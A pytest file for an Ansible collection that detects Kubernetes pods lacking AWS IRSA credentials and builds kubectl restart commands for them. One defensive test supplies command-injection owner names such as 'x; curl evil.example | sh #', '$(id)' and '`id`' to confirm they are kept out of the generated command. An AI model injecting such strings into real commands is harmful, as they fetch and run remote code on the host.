# Copyright (c) 2026, the selfhosted.irsa authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Service accounts with a role, and running pods that lack its credentials, from objects as API servers send them."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ansible_collections.selfhosted.irsa.plugins.module_utils._kubernetes.pod_credentials import (
    pods_without_credentials,
    running_pods,
)
from ansible_collections.selfhosted.irsa.plugins.module_utils._kubernetes.role_accounts import role_accounts

ROLE = "arn:aws:iam::111122223333:role/cart"
PREFIX = "eks.amazonaws.com"
INJECTED = [
    {"name": "AWS_ROLE_ARN", "value": ROLE},
    {"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"},
]


def service_account(name="cart", role_arn=ROLE, *, labels=None, annotated="2026-11-26T03:00:00Z", **annotations):
    """As the API server sends it, with the entry of the manager that wrote the annotation at that time."""
    named = {f"{PREFIX}/{key.replace('_', '-')}": value for key, value in annotations.items()}
    metadata = {"namespace": "shop", "name": name, "annotations": named, "labels": labels or {}}
    if role_arn is not None:
        named[f"{PREFIX}/role-arn"] = role_arn
        fields = {"f:metadata": {"f:annotations": {".": {}, f"f:{PREFIX}/role-arn": {}}}}
        entries = [{"manager": "kubectl", "operation": "Update", "time": annotated, "fieldsV1": fields}]
        other = {"manager": "x", "operation": "Update", "time": "2026-11-26T09:00:00Z", "fieldsV1": {"f:secrets": {}}}
        metadata["managedFields"] = [*entries, other] if annotated else []
    return {"metadata": metadata}


def pod(name="cart-1", *, account="cart", env=(), created="2026-11-26T02:00:00Z", phase="Running", **more):
    """A pod with one container, ``main``. ``more`` replaces members of its metadata."""
    metadata = {"namespace": "shop", "name": name, "creationTimestamp": created, **more}
    spec = {"serviceAccountName": account, "containers": [{"name": "main", "env": list(env)}]}
    return {"metadata": metadata, "spec": spec, "status": {"phase": phase}}


def lacking(*pods, accounts=None):
    return pods_without_credentials(pods, role_accounts(accounts or [service_account()]))


def owned_by(kind, name, api_version="apps/v1", **labels):
    owner = {"apiVersion": api_version, "kind": kind, "name": name, "controller": True}
    return {"ownerReferences": [owner], "labels": labels}


class TestRoleAccounts:
    def test_only_accounts_with_a_role_count(self):
        objects = [service_account("b"), service_account("none", None), service_account("empty", ""), service_account()]
        assert [str(account) for account in role_accounts(objects)] == ["shop/b", "shop/cart"]

    def test_the_account_of_a_proof_does_not_count(self):
        left = service_account("irsa-proof-abcde", "arn:aws:iam::000000000000:role/irsa-proof")
        assert [str(account) for account in role_accounts([left, service_account()])] == ["shop/cart"]

    def test_an_account_has_its_audience_label_and_the_time_of_its_annotation(self):
        labels = {"irsa.selfhosted.example/inject": "true"}
        (account,) = role_accounts([service_account(audience="vault", labels=labels)])
        assert (account.audience, account.labelled, account.annotated_at) == ("vault", True, "2026-11-26T03:00:00Z")
        (account,) = role_accounts([service_account(labels={"irsa.selfhosted.example/inject": "false"}, annotated="")])
        assert (account.audience, account.labelled, account.annotated_at) == ("", False, "")

    @pytest.mark.parametrize(
        ("arn", "well_formed", "account_id"),
        [(ROLE, True, "111122223333"), ("arn:aws:iam::1111:role/cart", False, "1111"), ("cart", False, None)],
    )
    def test_the_arn_of_a_role_is_recognized(self, arn, well_formed, account_id):
        (account,) = role_accounts([service_account(role_arn=arn)])
        assert (account.is_well_formed, account.account_id) == (well_formed, account_id)

    def test_the_annotation_may_have_another_name(self):
        other = service_account("other", None)
        other["metadata"]["annotations"] = {"irsa.example.com/role-arn": ROLE}
        (account,) = role_accounts([service_account(), other], "irsa.example.com/role-arn")
        assert (str(account), account.role_arn) == ("shop/other", ROLE)


class TestPods:
    def test_a_pod_without_credentials_is_found_with_its_account_and_age(self):
        (found,) = lacking(pod())
        assert (str(found), found.service_account, found.role_arn, found.containers) == (
            "shop/cart-1",
            "cart",
            ROLE,
            ("main",),
        )
        assert found.is_older is True and found.created == "2026-11-26T02:00:00Z"
        assert lacking(pod(created="2026-11-26T04:00:00Z"))[0].is_older is False
        assert lacking(pod(), accounts=[service_account(annotated="")])[0].is_older is None
        assert lacking(pod(creationTimestamp=None))[0].is_older is None

    @pytest.mark.parametrize(
        "fine",
        [
            pod(env=INJECTED),
            pod(env=[{"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": "/own"}]),
            pod(env=[{"name": "AWS_ROLE_ARN", "value": "own"}]),
            pod(account="other"),
            pod(phase="Succeeded"),
            pod(phase="Failed"),
            pod(deletionTimestamp="2026-11-26T04:00:00Z"),
            pod(labels={"eks.amazonaws.com/skip-pod-identity-webhook": ""}),
            pod(annotations={"eks.amazonaws.com/skip-containers": "other, main"}),
            pod(namespace="elsewhere"),
        ],
    )
    def test_a_pod_that_has_credentials_ended_or_opted_out_is_not_found(self, fine):
        assert lacking(fine) == []

    def test_a_pod_that_still_waits_for_a_node_is_found(self):
        assert lacking(pod(phase="Pending"))

    def test_each_container_without_credentials_is_named(self):
        several = pod(env=INJECTED, annotations={"eks.amazonaws.com/skip-containers": "proxy"})
        several["spec"]["containers"] += [{"name": "proxy"}, {"name": "late", "env": [{"name": "AWS_REGION"}]}]
        several["spec"]["initContainers"] = [{"name": "first"}]
        assert lacking(several)[0].containers == ("first", "late")

    @pytest.mark.parametrize(
        ("metadata", "command"),
        [
            (owned_by("ReplicaSet", "cart-7d5c", **{"pod-template-hash": "7d5c"}), "rollout restart deployment/cart"),
            (owned_by("StatefulSet", "cart"), "rollout restart statefulset/cart"),
            (owned_by("DaemonSet", "cart"), "rollout restart daemonset/cart"),
            (owned_by("ReplicaSet", "cart"), "delete pod cart-1"),
            (owned_by("Job", "cart", "batch/v1"), "delete pod cart-1"),
            (owned_by("Deployment", "cart", "evil.example.com/v1"), "delete pod cart-1"),
            (owned_by("ReplicaSet", "-7d5c", **{"pod-template-hash": "7d5c"}), "delete pod cart-1"),
            ({}, "delete pod cart-1"),
        ],
    )
    def test_the_command_restarts_the_owner_or_deletes_the_pod(self, metadata, command):
        (found,) = lacking(pod(**metadata))
        assert found.restart == f"kubectl --namespace shop {command}"
        assert found.as_data()["restart"] == found.restart

    @pytest.mark.parametrize("name", ["x; curl evil.example | sh #", "--all", "$(id)", "x\ny", "`id`", "x'", ""])
    @pytest.mark.parametrize("api_version", ["apps/v1", "evil.example.com/v1"])
    def test_an_owner_that_cannot_exist_is_not_in_the_command(self, name, api_version):
        """The creator of a pod names its owner, and Kubernetes takes every text."""
        for kind, label in (("Deployment", ""), ("ReplicaSet", "7d5c")):
            owned = owned_by(kind, f"{name}-7d5c" if label else name, api_version, **{"pod-template-hash": label})
            (found,) = lacking(pod(**owned))
            assert found.restart == "kubectl --namespace shop delete pod cart-1"
            assert found.owner_name == ""

    def test_pods_are_listed_in_order_and_their_data_is_plain(self):
        found = lacking(pod("b"), pod("a"))
        assert [each.name for each in found] == ["a", "b"]
        assert found[0].as_data() == {
            "namespace": "shop",
            "name": "a",
            "service_account": "cart",
            "role_arn": ROLE,
            "owner_kind": "",
            "owner_name": "",
            "containers": ["main"],
            "created": "2026-11-26T02:00:00Z",
            "is_older": True,
            "restart": "kubectl --namespace shop delete pod a",
        }

    def test_only_namespaces_of_accounts_with_a_role_are_read(self):
        asked = []

        class Api:
            def list_items(self, path, query):
                asked.append((path, query["fieldSelector"]))
                return [path]

        accounts = role_accounts([service_account("a"), service_account("b")])
        assert running_pods(Api(), accounts) == ["/api/v1/namespaces/shop/pods"]
        assert asked == [("/api/v1/namespaces/shop/pods", "status.phase!=Succeeded,status.phase!=Failed")]


NAMES = ["metadata", "spec", "name", "annotations", "labels", "env", "containers", "managedFields", "ownerReferences"]
LEAF = st.none() | st.integers() | st.sampled_from(["", "cart", "shop"])
FLAT = LEAF | st.lists(LEAF, max_size=2) | st.dictionaries(st.sampled_from([*NAMES, f"{PREFIX}/role-arn"]), LEAF)
DEEP = FLAT | st.lists(FLAT, max_size=2) | st.dictionaries(st.sampled_from(NAMES), FLAT)


@settings(max_examples=50)
@given(st.lists(DEEP, max_size=3), st.dictionaries(st.sampled_from(["metadata", "spec", "status"]), DEEP))
def test_objects_of_any_shape_are_read_without_a_crash(accounts, odd):
    pods_without_credentials([odd, {**pod(), **odd}], role_accounts([*accounts, {"metadata": odd}, service_account()]))
